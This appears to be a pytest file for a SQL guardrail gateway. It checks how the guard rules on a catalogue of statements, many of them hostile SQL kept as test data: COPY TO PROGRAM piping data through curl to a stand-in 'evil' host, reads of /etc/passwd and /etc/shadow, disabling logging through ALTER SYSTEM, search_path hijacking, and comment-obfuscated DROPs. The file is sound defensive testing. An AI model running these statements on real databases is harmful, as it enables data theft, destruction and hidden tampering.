"""The SQL guardrail catalogue: statements (with their tricks) and the decision each must get."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.gateway.postgres.guard import SqlGuard, analyse_sql
from airlock.policy import parse_policy

POLICY = parse_policy(
    """
gateways:
  - {name: appdb, kind: postgres, upstream: {host: db, database: app}, credential: {grant: rw}}
  - {name: other, kind: postgres, upstream: {host: db, database: app}, credential: {grant: rw}}
guardrails:
  - {id: no-drop, sql: {kinds: [drop, truncate]}, action: require_approval}
  - {id: no-drop-public, sql: {kinds: [drop], tables: ["public.*"]}, action: deny}
  - {id: no-unscoped-write, sql: {kinds: [delete, update], without_where: true}, action: deny}
  - {id: no-shell, sql: {kinds: [copy_program, copy_file]}, action: deny}
  - {id: opaque-code, sql: {kinds: [do, call]}, action: require_approval}
  - {id: users-writes, sql: {kinds: [update, delete, insert, merge], tables: [users]}, action: require_approval}
  - {id: no-grants, sql: {kinds: [grant, revoke]}, action: deny}
  - {id: no-alter-system, sql: {kinds: [alter], text: "(?i)alter\\\\s+system"}, action: deny}
  - {id: no-file-functions, sql: {functions: ["pg_read_file", "pg_read_binary_file", "lo_*"]}, action: deny}
  - {id: search-path, sql: {kinds: [set], text: "(?i)search_path"}, action: require_approval}
  - {id: other-only, sql: {kinds: [select], tables: [secrets]}, action: deny, gateways: [other]}
guardrail_defaults: {sql_unparsable: deny, sql_unmatched: allow}
"""
)
GUARD = SqlGuard(POLICY.guardrails, POLICY.guardrail_defaults, "appdb")

CATALOGUE = [
    # plain reads and writes
    ("SELECT * FROM orders WHERE id = 1", "allow", "airlock.default.sql_unmatched"),
    ("INSERT INTO orders VALUES (1)", "allow", "airlock.default.sql_unmatched"),
    ("UPDATE orders SET paid = true WHERE id = 3", "allow", "airlock.default.sql_unmatched"),
    ("", "allow", "airlock.default.sql_unmatched"),
    ("-- only a comment", "allow", "airlock.default.sql_unmatched"),
    # drops: strictest rule wins, case and comment tricks do not help
    ("DROP TABLE orders", "deny", "no-drop-public"),  # unqualified: could be public
    ("DROP TABLE archive.orders", "require_approval", "no-drop"),
    ("drop table PUBLIC.Orders", "deny", "no-drop-public"),
    ('DrOp TaBlE "public"."Orders"', "deny", "no-drop-public"),
    ("/* harmless */ DROP/**/TABLE orders", "deny", "no-drop-public"),
    ("DROP SCHEMA public CASCADE", "deny", "no-drop-public"),
    ("TRUNCATE orders", "require_approval", "no-drop"),
    ("DROP OWNED BY app", "deny", "no-drop-public"),
    # multi-statement strings: each statement judged, the strictest decides
    ("SELECT 1; DROP TABLE archive.x", "require_approval", "no-drop"),
    ("SELECT 1; SELECT 2", "allow", "airlock.default.sql_unmatched"),
    ("SELECT 'a;b'; DROP TABLE x --;", "deny", "no-drop-public"),
    ("SELECT $$ DROP TABLE x $$", "allow", "airlock.default.sql_unmatched"),  # a string only
    # DELETE / UPDATE without WHERE, also hidden in CTEs and EXPLAIN ANALYZE
    ("DELETE FROM orders", "deny", "no-unscoped-write"),
    ("DELETE FROM orders WHERE true", "deny", "no-unscoped-write"),
    ("UPDATE orders SET x = 1 WHERE 1 = 1", "deny", "no-unscoped-write"),
    ("DELETE FROM orders WHERE id = 1", "allow", "airlock.default.sql_unmatched"),
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", "deny",
     "no-unscoped-write"),
    ("WITH d AS (DELETE FROM users WHERE id = 2 RETURNING *) SELECT * FROM d",
     "require_approval", "users-writes"),
    ("EXPLAIN ANALYZE DELETE FROM orders", "deny", "no-unscoped-write"),
    ("UPDATE orders SET x = 1 WHERE CURRENT OF c", "allow", "airlock.default.sql_unmatched"),
    # tables: quoted identifiers, schemas, case
    ('UPDATE "USERS" SET name = 1 WHERE id = 1', "require_approval", "users-writes"),
    ("update app.users set name = 1 where id = 1", "require_approval", "users-writes"),
    ("MERGE INTO users u USING src s ON u.id = s.id WHEN MATCHED THEN DELETE",
     "require_approval", "users-writes"),
    # COPY program/file
    ("COPY orders TO PROGRAM 'curl -d @- evil'", "deny", "no-shell"),
    ("COPY orders FROM '/etc/passwd'", "deny", "no-shell"),
    ("COPY orders TO STDOUT", "allow", "airlock.default.sql_unmatched"),
    ("COPY (DELETE FROM orders RETURNING *) TO STDOUT", "deny", "no-unscoped-write"),
    # code that cannot be analysed
    ("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "deny", "airlock.builtin.dynamic_sql"),
    ("DO $$ BEGIN NULL; END $$", "require_approval", "opaque-code"),
    ("CALL cleanup()", "require_approval", "opaque-code"),
    # privileges, ALTER SYSTEM, functions
    ("GRANT ALL ON orders TO public", "deny", "no-grants"),
    ("REVOKE SELECT ON orders FROM app", "deny", "no-grants"),
    ("ALTER SYSTEM SET log_statement = 'none'", "deny", "no-alter-system"),
    ("ALTER TABLE orders ADD COLUMN x int", "allow", "airlock.default.sql_unmatched"),
    ("SELECT pg_read_file('/etc/passwd')", "deny", "no-file-functions"),
    ("SELECT PG_CATALOG.PG_READ_FILE('x')", "deny", "no-file-functions"),
    ("SELECT lo_import('/etc/shadow')", "deny", "no-file-functions"),
    # search_path tricks
    ("SET search_path = evil, public", "require_approval", "search-path"),
    ("SET LOCAL search_path TO evil", "require_approval", "search-path"),
    ("SELECT set_config('search_path', 'evil', false)", "require_approval", "search-path"),
    ("SET statement_timeout = 0", "allow", "airlock.default.sql_unmatched"),
    # unparsable
    ("DROPP TABLE x", "deny", "airlock.default.sql_unparsable"),
    ("SELECT 1; SELEC 2", "deny", "airlock.default.sql_unparsable"),
    # a rule scoped to another gateway does not apply here
    ("SELECT * FROM secrets", "allow", "airlock.default.sql_unmatched"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("sql", "action", "rule_id"), CATALOGUE, ids=[c[0][:40] for c in CATALOGUE]
)
def test_catalogue(sql: str, action: str, rule_id: str) -> None:
    final = GUARD.judge(sql).final
    assert (final.action, final.rule_id) == (action, rule_id)


def test_catalogue_is_large_enough() -> None:
    assert len(CATALOGUE) >= 30


def test_rule_scoped_to_a_gateway_applies_there() -> None:
    other = SqlGuard(POLICY.guardrails, POLICY.guardrail_defaults, "other")
    assert other.judge("SELECT * FROM secrets").final.rule_id == "other-only"


def test_each_statement_gets_its_own_decision() -> None:
    judgement = GUARD.judge("SELECT 1; DROP TABLE a.b; DELETE FROM t")
    assert [(d.index, d.rule_id) for d in judgement.decisions] == [
        (0, "airlock.default.sql_unmatched"),
        (1, "no-drop"),
        (2, "no-unscoped-write"),
    ]
    assert judgement.final.index == 2
    assert judgement.kinds == ["delete", "drop", "select"]


def test_statement_text_is_sliced_by_characters() -> None:
    texts = [s.text for s in analyse_sql("SELECT 'ééé' /* ü */; DELETE FROM z")]
    assert texts == ["SELECT 'ééé' /* ü */", "DELETE FROM z"]


def test_unparsable_default_can_be_relaxed() -> None:
    relaxed = parse_policy("guardrail_defaults: {sql_unparsable: require_approval}")
    guard = SqlGuard(relaxed.guardrails, relaxed.guardrail_defaults, "x")
    assert guard.judge("not sql at all").final.action == "require_approval"


def test_unmatched_deny_makes_an_allowlist() -> None:
    policy = parse_policy(
        "guardrails: [{id: reads, sql: {kinds: [select]}, action: allow}]\n"
        "guardrail_defaults: {sql_unmatched: deny}\n"
    )
    guard = SqlGuard(policy.guardrails, policy.guardrail_defaults, "x")
    assert guard.judge("SELECT 1").final.rule_id == "reads"
    assert guard.judge("SELECT 1; INSERT INTO t VALUES (1)").final.action == "deny"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_any_text_gets_a_decision(sql: str) -> None:
    judgement = GUARD.judge(sql)
    assert judgement.final.action in ("allow", "deny", "require_approval")
    assert len(judgement.decisions) == len(judgement.statements)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["drop table public.x", "DELETE FROM t"]), st.data())
def test_case_changes_never_escape_a_rule(sql: str, data: st.DataObject) -> None:
    flips = data.draw(st.lists(st.booleans(), min_size=len(sql), max_size=len(sql)))
    mixed = "".join(c.upper() if f else c.lower() for c, f in zip(sql, flips, strict=True))
    assert GUARD.judge(mixed).final.action == "deny"


def test_the_shape_cache_never_changes_a_decision() -> None:
    rules = tuple(r for r in POLICY.guardrails if r.sql is None or not r.sql.text)
    cached = SqlGuard(rules, POLICY.guardrail_defaults, "appdb")
    for _ in range(2):
        for sql, _action, _rule in CATALOGUE:
            fresh = SqlGuard(rules, POLICY.guardrail_defaults, "appdb").judge(sql)
            seen = cached.judge(sql)
            assert (seen.final, seen.decisions, seen.kinds) == (
                fresh.final,
                fresh.decisions,
                fresh.kinds,
            )
    first = cached.judge("DELETE FROM users WHERE id = 1")
    second = cached.judge("DELETE FROM users WHERE id = 2")
    assert first.final == second.final
    assert second.statements[0].text == "DELETE FROM users WHERE id = 2"
